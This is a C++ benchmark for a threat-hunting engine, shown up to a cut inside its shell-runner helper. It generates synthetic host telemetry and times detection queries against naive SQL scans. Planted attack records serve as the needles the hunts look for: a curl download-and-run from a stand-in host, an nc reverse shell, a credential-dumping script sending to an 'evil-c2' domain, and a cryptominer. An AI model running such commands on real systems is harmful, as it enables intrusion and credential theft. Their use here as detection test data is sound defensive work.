// Hunting benchmark: a generator of realistic fleet telemetry (process trees, connections, DNS,
// files over 100 hosts and 7 days; 10 M events by default) written into a real store (column
// blocks through the store's ingest, the server's default; or rows straight into the tables), and
// 20 representative hunts (plus three one-host counts) run through vigil::hunt (p50/p99 over
// repetitions, pinned to one core), each against the same question asked as a naive LIKE scan
// over the same database, in the same run (the sqlite3 shell for rows; for blocks, which the shell
// cannot read, a connection of this process). Both answers are compared (row or group counts) so
// the speed-up is for the same result. See bench/BENCHMARKS.md.
//
//   bench_hunt [--layout blocks|rows] [--db FILE] [--events 10000000] [--reps 15] [--cpu 0]
//              [--baseline-timeout 120] [--only N,M,...] [--no-baseline]
//
// The dataset is generated once and cached (a bench_meta row records the generator version and
// size); delete the file to regenerate.
#include <sched.h>
#include <sqlite3.h>
#include <sys/wait.h>
#include <time.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <iostream>
#include <map>
#include <random>
#include <regex>
#include <string>
#include <vector>

#include <CLI/CLI.hpp>

#include "common/schema.hpp"

namespace schema = vigil::schema;
#include "hunt/functions.hpp"
#include "hunt/hunt.hpp"
#include "server/store/block_table_vtab.hpp"
#include "server/store/sqlite_tuning.hpp"
#include "server/store/store.hpp"
#include "server/store/text_index_vtab.hpp"

namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

constexpr int kGeneratorVersion = 1;
constexpr int kHosts = 100;
constexpr std::int64_t kStart = 1767225600LL * 1000000000LL;  // 2026-01-01T00:00:00Z
constexpr std::int64_t kSpan = 7LL * 86400 * 1000000000LL;    // 7 days

double Ms(Clock::duration d) { return std::chrono::duration<double, std::milli>(d).count(); }

struct Db {
  sqlite3* db = nullptr;
  ~Db() {
    if (db) sqlite3_close_v2(db);
  }
  void Exec(const std::string& sql) {
    char* err = nullptr;
    if (sqlite3_exec(db, sql.c_str(), nullptr, nullptr, &err) != SQLITE_OK) {
      std::cerr << "bench_hunt: " << (err ? err : "?") << " in " << sql.substr(0, 200) << "\n";
      std::exit(1);
    }
  }
};

[[noreturn]] void Die(const std::string& why) {
  std::cerr << "bench_hunt: " << why << "\n";
  std::exit(1);
}

// Where the generator's rows of one table go: a row of the table (row layout) or an event for the
// store (block layout). Fields the table does not carry are skipped.
class Writer {
 public:
  virtual ~Writer() = default;
  virtual void Text(const char* field, const std::string& v) = 0;
  virtual void Int(const char* field, std::int64_t v) = 0;
  virtual void List(const char* field, const std::string& item) = 0;  // a one-item list
  virtual void Insert() = 0;
};

// Row layout: one table's INSERT of a fixed set of schema fields, straight into the table.
class RowWriter final : public Writer {
 public:
  RowWriter(sqlite3* db, const std::string& table, const std::vector<std::string>& fields) {
    auto category = schema::ParseCategory(table);
    std::string cols, params;
    for (const auto& name : fields) {
      const schema::FieldDef* f = schema::FindField(name);
      if (!f) Die("unknown field " + name);
      if (!f->In(*category)) continue;
      index_[name] = static_cast<int>(index_.size()) + 1;
      cols += (cols.empty() ? "" : ", ") + std::string("\"") + std::string(f->column) + "\"";
      params += params.empty() ? "?" : ", ?";
    }
    std::string sql = "INSERT INTO \"" + table + "\" (" + cols + ") VALUES (" + params + ")";
    if (sqlite3_prepare_v2(db, sql.c_str(), -1, &stmt_, nullptr) != SQLITE_OK)
      Die(sqlite3_errmsg(db) + std::string(" in ") + sql);
  }
  ~RowWriter() override { sqlite3_finalize(stmt_); }
  void Text(const char* field, const std::string& v) override {
    if (auto it = index_.find(field); it != index_.end())
      sqlite3_bind_text(stmt_, it->second, v.data(), static_cast<int>(v.size()), SQLITE_TRANSIENT);
  }
  void Int(const char* field, std::int64_t v) override {
    if (auto it = index_.find(field); it != index_.end()) sqlite3_bind_int64(stmt_, it->second, v);
  }
  void List(const char* field, const std::string& item) override {
    Text(field, "[\"" + item + "\"]");  // the store's JSON array (items here need no escapes)
  }
  void Insert() override {
    if (sqlite3_step(stmt_) != SQLITE_DONE) Die(sqlite3_errmsg(sqlite3_db_handle(stmt_)));
    sqlite3_reset(stmt_);
    sqlite3_clear_bindings(stmt_);
  }

 private:
  sqlite3_stmt* stmt_ = nullptr;
  std::map<std::string, int, std::less<>> index_;
};

// Block layout: events through the store's ingest (Store::Append, batches of 1,000), as the server
// writes them.
class EventBatcher {
 public:
  explicit EventBatcher(vigil::store::Store& store) : store_(store) {}
  vigil::v1::Event& Next() { return batch_.events.emplace_back(); }
  void Flush() {
    if (batch_.events.empty()) return;
    auto r = store_.Append(std::span<const vigil::store::IngestBatch>(&batch_, 1));
    if (!r) Die("append: " + r.error().message);
    batch_.events.clear();
  }
  void Added() {
    if (batch_.events.size() >= 1000) Flush();
  }

 private:
  vigil::store::Store& store_;
  vigil::store::IngestBatch batch_;
};

class EventWriter final : public Writer {
 public:
  EventWriter(EventBatcher& out, const std::string& table, const std::vector<std::string>& fields)
      : out_(out) {
    auto category = schema::ParseCategory(table);
    for (const auto& name : fields) {
      const schema::FieldDef* f = schema::FindField(name);
      if (!f) Die("unknown field " + name);
      if (f->In(*category)) ids_[name] = f->id;
    }
  }
  void Text(const char* field, const std::string& v) override {
    if (auto it = ids_.find(field); it != ids_.end()) schema::SetString(event_, it->second, v);
  }
  void Int(const char* field, std::int64_t v) override {
    if (auto it = ids_.find(field); it != ids_.end()) schema::SetInt(event_, it->second, v);
  }
  void List(const char* field, const std::string& item) override { Text(field, item); }
  void Insert() override {
    out_.Next().Swap(&event_);
    event_.Clear();
    out_.Added();
  }

 private:
  EventBatcher& out_;
  vigil::v1::Event event_;
  std::map<std::string, std::uint16_t, std::less<>> ids_;
};

const std::vector<std::string> kCommon = {"@timestamp",   "event.category",     "event.type",
                                          "event.action", "event.dataset",      "host.id",
                                          "host.name",    "process.entity_id",  "process.pid",
                                          "process.name", "process.executable", "user.name"};

std::vector<std::string> With(std::vector<std::string> more) {
  std::vector<std::string> out = kCommon;
  out.insert(out.end(), more.begin(), more.end());
  return out;
}

struct Command {
  const char* name;
  const char* exe;
  const char* args;  // command line after the name; %D a domain, %I an IP, %F a file
  int weight;
  bool connects;
  bool writes;
};

// What people and services run on Linux servers, weighted by how often.
const Command kCommands[] = {
    {"ls", "/usr/bin/ls", "-la /var/log", 30, false, false},
    {"cat", "/usr/bin/cat", "/etc/os-release", 20, false, false},
    {"grep", "/usr/bin/grep", "-r error /var/log/syslog", 20, false, false},
    {"ps", "/usr/bin/ps", "aux", 15, false, false},
    {"systemctl", "/usr/bin/systemctl", "status nginx", 10, false, false},
    {"journalctl", "/usr/bin/journalctl", "-u nginx --since today", 6, false, false},
    {"curl", "/usr/bin/curl", "-s https://%D/api/v1/health", 12, true, true},
    {"wget", "/usr/bin/wget", "-q https://%D/releases/pkg.tar.gz -O %F", 4, true, true},
    {"git", "/usr/bin/git", "pull origin main", 6, true, true},
    {"ssh", "/usr/bin/ssh", "deploy@%I uptime", 4, true, false},
    {"python3", "/usr/bin/python3", "/opt/app/manage.py migrate", 8, true, true},
    {"tar", "/usr/bin/tar", "czf %F /var/www", 3, false, true},
    {"vim", "/usr/bin/vim", "/etc/nginx/nginx.conf", 5, false, true},
    {"cp", "/usr/bin/cp", "/etc/hosts %F", 4, false, true},
    {"chmod", "/usr/bin/chmod", "+x %F", 3, false, false},
    {"apt-get", "/usr/bin/apt-get", "install -y htop", 2, true, true},
    {"docker", "/usr/bin/docker", "ps --format json", 5, true, false},
    {"sudo", "/usr/bin/sudo", "systemctl restart nginx", 3, false, false},
    {"find", "/usr/bin/find", "/tmp -mtime +7 -delete", 3, false, true},
    {"awk", "/usr/bin/awk", "{print $1} /var/log/nginx/access.log", 4, false, false},
};

// A deterministic fake SHA-256 (64 hex digits) for a value.
std::string Hex64(std::uint64_t a) {
  static const char* d = "0123456789abcdef";
  std::string out(64, '0');
  std::uint64_t x = a * 0x9E3779B97F4A7C15ull + 0x1234567;
  for (int i = 0; i < 64; ++i) {
    x ^= x >> 13, x *= 0xff51afd7ed558ccdull, x ^= x >> 29;
    out[i] = d[x & 15];
  }
  return out;
}

// The known-bad binary planted on three hosts.
std::string BadHash() { return Hex64(std::hash<std::string>{}("/var/tmp/kworkerd")); }

class Generator {
 public:
  // `open(table, fields)`: the writer of a table; `commit`: called after each host's events.
  using OpenWriter =
      std::function<std::unique_ptr<Writer>(const std::string&, const std::vector<std::string>&)>;
  Generator(OpenWriter open, std::function<void()> begin, std::function<void()> commit,
            std::uint64_t events)
      : open_(std::move(open)),
        begin_(std::move(begin)),
        commit_(std::move(commit)),
        target_(events),
        rng_(20260101) {
    for (int i = 0; i < 2000; ++i)
      domains_.push_back((i % 7 == 0   ? "cdn"
                          : i % 5 == 0 ? "api"
                                       : "www") +
                         std::to_string(i) +
                         (i % 3 == 0   ? ".example.com"
                          : i % 3 == 1 ? ".example.net"
                                       : ".example.org"));
    for (const auto& c : kCommands) total_weight_ += c.weight;
  }

  void Run() {
    process_ = open_("process",
                     With({"process.command_line", "process.args", "process.args_count",
                           "process.parent.entity_id", "process.parent.pid", "process.parent.name",
                           "process.parent.executable", "process.parent.command_line",
                           "process.hash.sha256", "process.working_directory"}));
    network_ =
        open_("network", With({"source.ip", "source.port", "destination.ip", "destination.port",
                               "network.transport", "network.type", "network.direction",
                               "vigil.destination.external", "destination.domain"}));
    dns_ = open_("dns", With({"dns.question.name", "dns.question.type", "dns.resolved_ip",
                              "destination.ip", "destination.port", "network.transport"}));
    file_ = open_("file", With({"file.path", "file.name", "file.hash.sha256"}));
    auto started = Clock::now();
    std::uint64_t per_host = target_ / kHosts;
    for (int h = 0; h < kHosts; ++h) {
      Begin();
      Host(h, per_host);
      Commit();
      if (h % 10 == 9)
        std::cerr << "  generated " << written_ << " events (" << h + 1 << " hosts, "
                  << static_cast<int>(Ms(Clock::now() - started) / 1000) << " s)\n";
    }
  }

  std::uint64_t written() const { return written_; }

 private:
  struct Proc {
    std::string entity;
    std::int64_t pid;
    std::string name, exe, cmd;
  };

  void Begin() { begin_(); }
  void Commit() { commit_(); }

  std::uint64_t R(std::uint64_t n) {
    return std::uniform_int_distribution<std::uint64_t>(0, n - 1)(rng_);
  }

  std::string Ip(bool external) {
    if (!external)
      return "10." + std::to_string(R(4)) + "." + std::to_string(R(256)) + "." +
             std::to_string(1 + R(254));
    static const char* nets[] = {"93.184.", "151.101.", "142.250.",
                                 "104.16.", "185.199.", "52.84."};
    return std::string(nets[R(6)]) + std::to_string(R(256)) + "." + std::to_string(1 + R(254));
  }

  void Common(Writer& w, const char* category, const char* type, const char* action,
              std::int64_t ts, const Proc& p) {
    w.Int("@timestamp", ts);
    w.Text("event.category", category);
    w.Text("event.type", type);
    w.Text("event.action", action);
    w.Text("event.dataset", "vigil.ebpf");
    w.Text("host.id", host_id_);
    w.Text("host.name", host_name_);
    w.Text("process.entity_id", p.entity);
    w.Int("process.pid", p.pid);
    w.Text("process.name", p.name);
    w.Text("process.executable", p.exe);
    w.Text("user.name", user_);
    ++written_;
  }

  Proc Exec(std::int64_t ts, const Proc* parent, const std::string& name, const std::string& exe,
            const std::string& args) {
    Proc p{host_id_ + "-" + std::to_string(++serial_),
           1000 + static_cast<std::int64_t>(serial_ % 4000000), name, exe,
           args.empty() ? exe : exe + " " + args};
    Common(*process_, "process", "start", "exec", ts, p);
    process_->Text("process.command_line", p.cmd);
    process_->List("process.args", exe);
    process_->Int(
        "process.args_count",
        1 + static_cast<std::int64_t>(std::count(args.begin(), args.end(), ' ')) + !args.empty());
    if (parent) {
      process_->Text("process.parent.entity_id", parent->entity);
      process_->Int("process.parent.pid", parent->pid);
      process_->Text("process.parent.name", parent->name);
      process_->Text("process.parent.executable", parent->exe);
      process_->Text("process.parent.command_line", parent->cmd);
    }
    process_->Text("process.hash.sha256", Hex64(std::hash<std::string>{}(exe)));
    process_->Text("process.working_directory", "/home/" + user_);
    process_->Insert();
    return p;
  }

  void Exit(std::int64_t ts, const Proc& p) {
    Common(*process_, "process", "end", "exit", ts, p);
    process_->Text("process.command_line", p.cmd);
    process_->Insert();
  }

  void Connect(std::int64_t ts, const Proc& p, const std::string& ip, int port,
               const std::string& domain = {}) {
    Common(*network_, "network", "start", "connect", ts, p);
    network_->Text("source.ip", "10.1.0." + std::to_string(host_ + 1));
    network_->Int("source.port", 32768 + static_cast<std::int64_t>(R(28000)));
    network_->Text("destination.ip", ip);
    network_->Int("destination.port", port);
    network_->Text("network.transport", "tcp");
    network_->Text("network.type", "ipv4");
    network_->Text("network.direction", "outbound");
    network_->Int("vigil.destination.external", ip.starts_with("10.") ? 0 : 1);
    if (!domain.empty()) network_->Text("destination.domain", domain);
    network_->Insert();
  }

  void Dns(std::int64_t ts, const Proc& p, const std::string& name, const std::string& ip) {
    Common(*dns_, "dns", "protocol", "query", ts, p);
    dns_->Text("dns.question.name", name);
    dns_->Text("dns.question.type", "A");
    dns_->List("dns.resolved_ip", ip);
    dns_->Text("destination.ip", "10.0.0.2");
    dns_->Int("destination.port", 53);
    dns_->Text("network.transport", "udp");
    dns_->Insert();
  }

  void File(std::int64_t ts, const Proc& p, const std::string& path, const char* action) {
    Common(*file_, "file", "creation", action, ts, p);
    file_->Text("file.path", path);
    file_->Text("file.name", path.substr(path.rfind('/') + 1));
    file_->Text("file.hash.sha256", Hex64(std::hash<std::string>{}(path) ^ R(1 << 20)));
    file_->Insert();
  }

  std::string Fill(const std::string& pattern, const std::string& domain, const std::string& ip,
                   const std::string& file) {
    std::string out;
    for (std::size_t i = 0; i < pattern.size(); ++i) {
      if (pattern[i] == '%' && i + 1 < pattern.size()) {
        char c = pattern[++i];
        out += c == 'D' ? domain : c == 'I' ? ip : file;
      } else {
        out += pattern[i];
      }
    }
    return out;
  }

  // One host: long-lived services, then interactive sessions and cron jobs over 7 days, with rare
  // malicious activity planted on a few hosts (what the hunts look for).
  void Host(int h, std::uint64_t budget) {
    host_ = h;
    char id[16];
    std::snprintf(id, sizeof id, "host-%03d", h);
    host_id_ = id;
    host_name_ = std::string(id) + ".prod.example.com";
    user_ = "root";
    std::uint64_t end = written_ + budget;
    std::int64_t ts = kStart + static_cast<std::int64_t>(R(60)) * 1000000000LL;
    Proc init = Exec(ts, nullptr, "systemd", "/usr/lib/systemd/systemd", "--system");
    Proc sshd = Exec(ts + 1000000, &init, "sshd", "/usr/sbin/sshd", "-D");
    Proc cron = Exec(ts + 2000000, &init, "cron", "/usr/sbin/cron", "-f");
    Proc nginx = Exec(ts + 3000000, &init, "nginx", "/usr/sbin/nginx", "-g daemon off;");
    std::vector<Proc> workers;
    for (int i = 0; i < 4; ++i)
      workers.push_back(Exec(ts + 4000000, &nginx, "nginx", "/usr/sbin/nginx", "worker process"));
    const std::int64_t step = kSpan / static_cast<std::int64_t>(budget / 6 + 1);
    int session = 0;
    while (written_ < end) {
      ts += step + static_cast<std::int64_t>(R(static_cast<std::uint64_t>(step)));
      ++session;
      bool interactive = session % 3 != 0;
      user_ = interactive ? (session % 2 ? "alice" : "deploy") : "root";
      Proc shell = interactive ? Exec(ts, &sshd, "bash", "/usr/bin/bash", "-l")
                               : Exec(ts, &cron, "sh", "/bin/sh", "-c /usr/local/bin/backup.sh");
      int n = 1 + static_cast<int>(R(6));
      for (int k = 0; k < n && written_ < end; ++k) {
        ts += 200000000 + static_cast<std::int64_t>(R(5000000000ull));
        std::uint64_t pick = R(static_cast<std::uint64_t>(total_weight_));
        const Command* c = &kCommands[0];
        for (const auto& cmd : kCommands) {
          if (pick < static_cast<std::uint64_t>(cmd.weight)) {
            c = &cmd;
            break;
          }
          pick -= cmd.weight;
        }
        std::string domain = domains_[R(domains_.size())];
        std::string ip = Ip(c->connects && std::string(c->name) != "ssh");
        std::string file =
            "/tmp/" + std::string(c->name) + "-" + std::to_string(R(100000)) + ".out";
        Proc p = Exec(ts, &shell, c->name, c->exe, Fill(c->args, domain, ip, file));
        if (c->connects) {
          if (std::string(c->args).find("%D") != std::string::npos)
            Dns(ts + 1000000, p, domain, ip);
          Connect(ts + 2000000, p, ip, std::string(c->name) == "ssh" ? 22 : 443,
                  std::string(c->args).find("%D") != std::string::npos ? domain : "");
        }
        if (c->writes) File(ts + 3000000, p, file, "create");
        Exit(ts + 5000000, p);
      }
      // nginx serves: accepted connections of the workers
      Connect(ts + 7000000, workers[R(4)], Ip(true), 443);
      Exit(ts + 9000000, shell);
      Plant(ts + 10000000, shell, nginx, session);
    }
  }

  // Rare needles: on host 7 a download-and-run within minutes (curl then chmod then the payload
  // connecting out to 203.0.113.50:4444); on hosts 13 and 42 mimikatz-like tooling and an evil
  // domain; on host 66 a webshell under nginx; a known-bad hash on three hosts.
  void Plant(std::int64_t ts, const Proc& shell, const Proc& nginx, int session) {
    if (session % 500 != 250) return;
    if (host_ == 7 || host_ == 8) {
      Proc curl =
          Exec(ts, &shell, "curl", "/usr/bin/curl", "-s http://203.0.113.50/x.sh -o /tmp/.x");
      Dns(ts + 1000, curl, "update.evil-c2.net", "203.0.113.50");
      Connect(ts + 2000, curl, "203.0.113.50", 80, "update.evil-c2.net");
      File(ts + 3000, curl, "/tmp/.x", "create");
      Proc chmod = Exec(ts + 60000000000LL, &shell, "chmod", "/usr/bin/chmod", "+x /tmp/.x");
      Proc payload = Exec(ts + 120000000000LL, &shell, ".x", "/tmp/.x", "");
      Connect(ts + 121000000000LL, payload, "203.0.113.50", 4444);
      Proc sh = Exec(ts + 122000000000LL, &payload, "bash", "/usr/bin/bash", "-i");
      Connect(ts + 123000000000LL, sh, "203.0.113.50", 4444);
      (void)chmod;
    }
    if (host_ == 13 || host_ == 42) {
      Proc m =
          Exec(ts, &shell, "python3", "/usr/bin/python3", "/dev/shm/mimipenguin.py --dump-creds");
      Dns(ts + 1000, m, "paste.evil-c2.net", "198.51.100.23");
      Connect(ts + 2000, m, "198.51.100.23", 443, "paste.evil-c2.net");
    }
    if (host_ == 66) {
      Proc sh = Exec(ts, &nginx, "sh", "/bin/sh", "-c id; uname -a");
      Proc nc = Exec(ts + 1000, &sh, "nc", "/usr/bin/nc", "-e /bin/sh 198.51.100.77 1337");
      Connect(ts + 2000, nc, "198.51.100.77", 1337);
    }
    if (host_ == 21 || host_ == 55 || host_ == 90) {
      Proc x = Exec(ts, &shell, "kworkerd", "/var/tmp/kworkerd", "-o pool.minexmr.example:4444");
      (void)x;
    }
  }

  OpenWriter open_;
  std::function<void()> begin_, commit_;
  std::uint64_t target_;
  std::mt19937_64 rng_;
  std::vector<std::string> domains_;
  int total_weight_ = 0;
  std::unique_ptr<Writer> process_, network_, dns_, file_;
  std::uint64_t written_ = 0, serial_ = 0;
  int host_ = 0;
  std::string host_id_, host_name_, user_;
};

struct Hunt {
  const char* name;
  std::string eql;
  std::string naive;  // SQL for the sqlite3 shell: SELECT count(*) ... (rows, or groups for count)
  bool sequence = false;
};

std::vector<Hunt> Hunts() {
  const std::string bad = BadHash();
  return {
      {"cmdline substring (rare)", R"(process where process.command_line : "*mimipenguin*")",
       "SELECT count(*) FROM process NOT INDEXED WHERE process_command_line LIKE '%mimipenguin%'"},
      {"cmdline substring", R"(process where process.command_line : "*pool.minexmr*")",
       "SELECT count(*) FROM process NOT INDEXED WHERE process_command_line LIKE '%pool.minexmr%'"},
      {"cmdline two terms", R"(process where process.command_line : "*curl*203.0.113.50*")",
       "SELECT count(*) FROM process NOT INDEXED WHERE process_command_line LIKE "
       "'%curl%203.0.113.50%'"},
      {"name, case-insensitive", R"(process where process.name : "NC")",
       "SELECT count(*) FROM process NOT INDEXED WHERE process_name LIKE 'NC'"},
      {"name in~ list", R"(process where process.name in~ ("nc", "ncat", "socat", "KWORKERD"))",
       "SELECT count(*) FROM process NOT INDEXED WHERE lower(process_name) IN ('nc', 'ncat', "
       "'socat', 'kworkerd')"},
      {"parent/child fields",
       R"(process where process.parent.name == "nginx" and process.name in ("sh", "bash"))",
       "SELECT count(*) FROM process NOT INDEXED WHERE process_parent_name LIKE 'nginx' AND "
       "process_name IN ('sh', 'bash')"},
      {"child of",
       R"(process where process.name : ("sh", "bash") and child of [process where process.name == "nginx"])",
       "SELECT count(*) FROM process c NOT INDEXED WHERE c.process_name IN ('sh', 'bash') AND "
       "c.process_parent_entity_id IN (SELECT process_entity_id FROM process NOT INDEXED WHERE "
       "process_name LIKE 'nginx')"},
      {"descendant of",
       R"(process where process.name == "nc" and descendant of [process where process.name == "nginx"])",
       "WITH RECURSIVE d(eid) AS (SELECT process_entity_id FROM process NOT INDEXED WHERE "
       "process_name LIKE 'nginx' UNION SELECT c.process_entity_id FROM process c NOT INDEXED "
       "JOIN d ON c.process_parent_entity_id = d.eid) SELECT count(*) FROM process NOT INDEXED "
       "WHERE process_name LIKE 'nc' AND process_parent_entity_id IN (SELECT eid FROM d)"},
      {"process hash", "process where process.hash.sha256 == \"" + bad + "\"",
       "SELECT count(*) FROM process NOT INDEXED WHERE process_hash_sha256 LIKE '" + bad + "'"},
      {"file path wildcard", R"(file where file.path : "/tmp/.x*")",
       "SELECT count(*) FROM file NOT INDEXED WHERE file_path LIKE '/tmp/.x%'"},
      {"destination IP", R"(network where destination.ip == "203.0.113.50")",
       "SELECT count(*) FROM network NOT INDEXED WHERE destination_ip LIKE '203.0.113.50'"},
      {"CIDR", R"(network where cidrMatch(destination.ip, "203.0.113.0/24", "198.51.100.0/24"))",
       "SELECT count(*) FROM network NOT INDEXED WHERE destination_ip LIKE '203.0.113.%' OR "
       "destination_ip LIKE '198.51.100.%'"},
      {"DNS name", R"(dns where dns.question.name == "update.evil-c2.net")",
       "SELECT count(*) FROM dns NOT INDEXED WHERE dns_question_name LIKE 'update.evil-c2.net'"},
      {"DNS suffix", R"(dns where dns.question.name : "*.evil-c2.net")",
       "SELECT count(*) FROM dns NOT INDEXED WHERE dns_question_name LIKE '%.evil-c2.net'"},
      {"destination port", R"(network where destination.port == 4444)",
       "SELECT count(*) FROM network NOT INDEXED WHERE destination_port = 4444"},
      {"count by host", R"(process where process.name == "chmod" | count host.id)",
       "SELECT count(*) FROM (SELECT host_id FROM process NOT INDEXED WHERE process_name LIKE "
       "'chmod' GROUP BY host_id)"},
      {"count by name (one host)", R"(process where host.id == "host-042" | count process.name)",
       "SELECT count(*) FROM (SELECT process_name FROM process NOT INDEXED WHERE host_id LIKE "
       "'host-042' GROUP BY process_name)"},
      {"count by host (IP)", R"(network where destination.ip == "203.0.113.50" | count host.id)",
       "SELECT count(*) FROM (SELECT host_id FROM network NOT INDEXED WHERE destination_ip LIKE "
       "'203.0.113.50' GROUP BY host_id)"},
      {"sequence 5m by host",
       R"(sequence by host.id with maxspan=5m [process where process.name == "curl" and process.command_line : "*/tmp/*"] [process where process.name == "chmod" and process.command_line : "*/tmp/*"])",
       "SELECT count(*) FROM process a NOT INDEXED JOIN process b NOT INDEXED ON a.host_id = "
       "b.host_id AND b.timestamp > a.timestamp AND b.timestamp <= a.timestamp + 300000000000 "
       "WHERE a.process_name LIKE 'curl' AND a.process_command_line LIKE '%/tmp/%' AND "
       "b.process_name LIKE 'chmod' AND b.process_command_line LIKE '%/tmp/%'",
       true},
      {"sequence 5m by entity",
       R"(sequence by process.entity_id with maxspan=5m [process where process.name : "*.x"] [network where destination.port == 4444])",
       "SELECT count(*) FROM process a NOT INDEXED JOIN network b NOT INDEXED ON "
       "a.process_entity_id = b.process_entity_id AND b.timestamp > a.timestamp AND b.timestamp "
       "<= a.timestamp + 300000000000 WHERE a.process_name LIKE '%.x' AND b.destination_port = "
       "4444",
       true},
      // Beyond the 20: counts by other fields on one host (only the process name is in the
      // host index; these read a table row per event of the host).
      {"count by parent name (one host)",
       R"(process where host.id == "host-042" | count process.parent.name)",
       "SELECT count(*) FROM (SELECT process_parent_name FROM process NOT INDEXED WHERE host_id "
       "LIKE 'host-042' GROUP BY process_parent_name)"},
      {"count by destination IP (one host)",
       R"(network where host.id == "host-042" | count destination.ip)",
       "SELECT count(*) FROM (SELECT destination_ip FROM network NOT INDEXED WHERE host_id LIKE "
       "'host-042' GROUP BY destination_ip)"},
      {"count by DNS name (one host)",
       R"(dns where host.id == "host-042" | count dns.question.name)",
       "SELECT count(*) FROM (SELECT dns_question_name FROM dns NOT INDEXED WHERE host_id LIKE "
       "'host-042' GROUP BY dns_question_name)"},
  };
}

std::uint64_t DatasetSize(const fs::path& db) {
  Db d;
  if (sqlite3_open_v2(db.c_str(), &d.db, SQLITE_OPEN_READONLY, nullptr) != SQLITE_OK) return 0;
  sqlite3_stmt* s = nullptr;
  std::uint64_t n = 0;
  std::string sql =
      "SELECT events FROM bench_meta WHERE version = " + std::to_string(kGeneratorVersion);
  if (sqlite3_prepare_v2(d.db, sql.c_str(), -1, &s, nullptr) == SQLITE_OK &&
      sqlite3_step(s) == SQLITE_ROW)
    n = static_cast<std::uint64_t>(sqlite3_column_int64(s, 0));
  sqlite3_finalize(s);
  return n;
}

void GenerateRows(const fs::path& db, std::uint64_t events) {
  {
    // The store creates the tables; the indexes come after the rows (bulk builds are faster).
    vigil::store::SqliteTuning bare;
    bare.secondary_indexes = false;
    bare.full_text = false;
    auto store = vigil::store::OpenSqliteStoreTuned({db, false}, bare);
    if (!store) Die(store.error().message);
  }
  {
    Db d;
    sqlite3_open(db.c_str(), &d.db);
    d.Exec("PRAGMA synchronous=OFF");
    d.Exec("PRAGMA cache_size=-262144");
    Generator g(
        [&](const std::string& table, const std::vector<std::string>& fields)
            -> std::unique_ptr<Writer> { return std::make_unique<RowWriter>(d.db, table, fields); },
        [&] { d.Exec("BEGIN"); }, [&] { d.Exec("COMMIT"); }, events);
    g.Run();
    std::cerr << "bench_hunt: " << g.written() << " events written; building indexes\n";
  }
  auto store = vigil::store::OpenSqliteStore({db, false});  // secondary and text indexes
  if (!store) Die(store.error().message);
}

// The block layout's dataset goes through the store's own ingest, as the server's would (its
// indexes are built as the rows arrive).
void GenerateBlocks(const fs::path& db, std::uint64_t events) {
  auto store = vigil::store::OpenSqliteStore({db, false, true});
  if (!store) Die(store.error().message);
  EventBatcher out(**store);
  Generator g(
      [&](const std::string& table, const std::vector<std::string>& fields)
          -> std::unique_ptr<Writer> { return std::make_unique<EventWriter>(out, table, fields); },
      [] {}, [&] { out.Flush(); }, events);
  g.Run();
  out.Flush();
  std::cerr << "bench_hunt: " << g.written() << " events stored\n";
}

void Generate(const fs::path& db, std::uint64_t events, bool blocks) {
  for (const char* suffix : {"", "-wal", "-shm"}) fs::remove(db.string() + suffix);
  fs::create_directories(db.parent_path());
  auto started = Clock::now();
  if (blocks)
    GenerateBlocks(db, events);
  else
    GenerateRows(db, events);
  Db d;
  sqlite3_open(db.c_str(), &d.db);
  if (auto r = vigil::store::blocks::RegisterBlockTables(d.db); !r) Die(r.error().message);
  std::uint64_t total = 0;
  for (const char* t : {"process", "network", "dns", "file"}) {
    sqlite3_stmt* s = nullptr;
    sqlite3_prepare_v2(d.db, ("SELECT count(*) FROM " + std::string(t)).c_str(), -1, &s, nullptr);
    sqlite3_step(s);
    total += static_cast<std::uint64_t>(sqlite3_column_int64(s, 0));
    sqlite3_finalize(s);
  }
  d.Exec("CREATE TABLE bench_meta (version INTEGER, events INTEGER)");
  d.Exec("INSERT INTO bench_meta VALUES (" + std::to_string(kGeneratorVersion) + ", " +
         std::to_string(total) + ")");
  d.Exec("PRAGMA wal_checkpoint(TRUNCATE)");
  d.Exec("ANALYZE");
  std::cerr << "bench_hunt: dataset ready (" << total << " events) in "
            << static_cast<int>(Ms(Clock::now() - started) / 1000) << " s\n";
}

// The naive scan of a block store, in this process (the sqlite3 shell cannot read column blocks):
// the same SQL without NOT INDEXED (a virtual table has no index to avoid) and with every key
// column the tables answer from their postings (blocks::TermKey) behind a unary `+`, which keeps
// SQLite from handing the constraint to the table: a scan. Wall time and the number (-1: timed
// out).
std::pair<double, std::int64_t> InProcess(const fs::path& db, std::string sql, int timeout_s) {
  for (std::size_t at; (at = sql.find(" NOT INDEXED")) != std::string::npos;)
    sql.erase(at, std::string_view(" NOT INDEXED").size());
  static const std::regex kKeys(
      R"(\b((?:[a-z]\.)?(?:process_entity_id|process_parent_entity_id|host_id|destination_port))\b)");
  sql = std::regex_replace(sql, kKeys, "+$1");
  Db d;
  sqlite3_open_v2(db.c_str(), &d.db, SQLITE_OPEN_READONLY, nullptr);
  if (auto r = vigil::store::blocks::RegisterBlockTables(d.db); !r) Die(r.error().message);
  const auto deadline = Clock::now() + std::chrono::seconds(timeout_s);
  sqlite3_progress_handler(
      d.db, 10000,
      [](void* at) { return Clock::now() > *static_cast<Clock::time_point*>(at) ? 1 : 0; },
      const_cast<Clock::time_point*>(&deadline));
  auto t0 = Clock::now();
  sqlite3_stmt* s = nullptr;
  if (sqlite3_prepare_v2(d.db, sql.c_str(), -1, &s, nullptr) != SQLITE_OK)
    Die(std::string(sqlite3_errmsg(d.db)) + " in " + sql);
  const int rc = sqlite3_step(s);
  const std::int64_t n = rc == SQLITE_ROW ? sqlite3_column_int64(s, 0) : -1;
  sqlite3_finalize(s);
  if (rc != SQLITE_ROW && rc != SQLITE_INTERRUPT) Die(std::string(sqlite3_errmsg(d.db)));
  return {Ms(Clock::now() - t0), n};
}

// Runs SQL in the sqlite3 shell; the wall time and the single number it prints (-1: timed out).
std::pair<double, std::int64_t> Shell(const fs::path& db, const std::string& sql, int timeout_s) {
  std::string out_file = db.string() + ".shell.out";
  std::string cmd = "timeout " + std::to_string(timeout_s) + " sqlite3 -readonly '" + db.string() +
                    "' \"" + sql + ";\" > '" + out_file + "' 2>&1";
  auto t0 = Clock::now();
  int rc = std::system(cmd.c_str());
  double ms = Ms(Clock::now() - t0);
  std::FILE* f = std::fopen(out_file.c_str(), "r");
  long long n = -1;
  if (f) {
    if (std::fscanf(f, "%lld", &n) != 1) n = -1;
    std::fclose(f);
  }
  fs::remove(out_file);
